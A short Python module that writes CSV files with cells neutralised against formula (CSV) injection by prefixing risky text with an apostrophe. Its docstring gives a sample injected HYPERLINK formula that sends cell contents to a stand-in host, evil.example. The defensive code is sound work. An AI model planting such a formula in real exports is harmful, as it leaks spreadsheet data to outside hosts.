"""CSV downloads that a spreadsheet opens safely.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
read by Excel, LibreOffice and Google Sheets as a formula: a team named
``=HYPERLINK("http://evil.example/?x="&A1,"click")`` would run in the reader's
spreadsheet (OWASP's "CSV injection"). Every text cell that begins so is written
with a leading ``'``, which spreadsheets show as text; numbers stay numbers.
"""

import csv
from numbers import Number

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralized(value):
    """The cell as written: a number as it is, text with a leading ' if it could be a
    formula (None is an empty cell, as the csv module writes it)."""
    if value is None or isinstance(value, Number):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def write_rows(stream, rows):
    """Write ``rows`` (iterables of cells) to ``stream`` as CSV, every cell neutralized."""
    writer = csv.writer(stream)
    writer.writerows([neutralized(cell) for cell in row] for row in rows)
